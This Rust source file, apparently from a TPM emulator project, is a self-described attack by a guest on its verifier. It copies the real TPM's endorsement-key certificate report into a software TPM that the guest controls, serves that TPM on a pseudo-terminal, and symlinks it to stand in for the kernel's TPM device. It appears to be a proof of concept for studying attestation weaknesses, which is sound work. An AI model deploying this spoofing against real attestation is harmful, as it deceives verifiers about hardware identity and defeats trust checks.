// SPDX-License-Identifier: Apache-2.0 OR MIT
//! The attack of a guest on its verifier: a software TPM that it controls, with the real TPM's report in its NV index.
//!
//! It serves on a pseudo-terminal, which an agent opens like the kernel's device.

use std::fs::File;
use std::io::{Read as _, Write as _};
use std::os::unix::fs::symlink;

use anyhow::{Context as _, bail};
use evtpm_client::Client;
use evtpm_crypto::{EntropyError, Rng};
use evtpm_engine::{Ek, Execution, Locality, Profile, Tpm};
use evtpm_tpm_wire::Handle;
use evtpm_tpmd::devices::platform::HostedPlatform;
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use rustix::termios::{OptionalActions, tcgetattr, tcsetattr};

const USAGE: &str = "usage: fake-tpm DEVICE LINK";
/// The index where the report on the P-256 endorsement key lies.
const REPORT: u32 = 0x01c0_000a;
const STARTUP: [u8; 12] = [0x80, 1, 0, 0, 0, 12, 0, 0, 1, 0x44, 0, 0];

/// The kernel's random numbers.
struct Kernel;

impl Rng for Kernel {
    fn fill(&mut self, out: &mut [u8]) -> Result<(), EntropyError> {
        let read = File::open("/dev/urandom").and_then(|mut source| source.read_exact(out));
        read.map_err(|_| EntropyError::Exhausted { attempts: 1 })
    }
}

fn main() -> anyhow::Result<()> {
    let mut arguments = std::env::args().skip(1);
    let (device, link) = (arguments.next().context(USAGE)?, arguments.next().context(USAGE)?);
    let report = Client::new(evtpm_agent::device::Tpm::open(&device)?, Kernel).nv_read(Handle(REPORT), &[])?;
    println!("took the report of {} bytes from {device}", report.len());

    let Ok(mut tpm) = Tpm::manufacture(HostedPlatform::new(), Profile::pc_client()) else {
        bail!("no memory for a TPM")
    };
    let mut host = tpm.host();
    if host.define_ek_certificate(REPORT, Ek::EccP256, report.len()).is_err() {
        bail!("cannot define the index");
    }
    if host.set_ek_certificate(REPORT, &report).is_err() {
        bail!("cannot write the index");
    }

    let terminal = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY)?;
    grantpt(&terminal)?;
    unlockpt(&terminal)?;
    let mut settings = tcgetattr(&terminal)?;
    settings.make_raw();
    tcsetattr(&terminal, OptionalActions::Now, &settings)?;
    let name = ptsname(&terminal, Vec::new())?;
    // Kept open here, so that the terminal is not hung up between two users.
    let _slave = File::options().read(true).write(true).open(name.to_str()?)?;
    execute(&mut tpm, &STARTUP)?;
    symlink(name.to_str()?, &link)?;
    serve(&mut tpm, File::from(terminal))
}

fn serve(tpm: &mut Tpm<HostedPlatform>, mut terminal: File) -> anyhow::Result<()> {
    loop {
        let mut command = vec![0; 10];
        terminal.read_exact(&mut command)?;
        let [_, _, s0, s1, s2, s3, ..] = command.as_slice() else { bail!("a header has ten bytes") };
        let size = usize::try_from(u32::from_be_bytes([*s0, *s1, *s2, *s3]))?;
        command.resize(size.clamp(10, 4096), 0);
        terminal.read_exact(command.get_mut(10..).unwrap_or_default())?;
        terminal.write_all(&execute(tpm, &command)?)?;
    }
}

fn execute(tpm: &mut Tpm<HostedPlatform>, command: &[u8]) -> anyhow::Result<Vec<u8>> {
    let (mut command, mut response) = (command.to_vec(), vec![0; 4096]);
    match tpm.execute(Locality::ZERO, &mut command, &mut response) {
        Execution::Response(size) => response.truncate(size),
        Execution::Pending(_) => bail!("the only index is written"),
    }
    Ok(response)
}
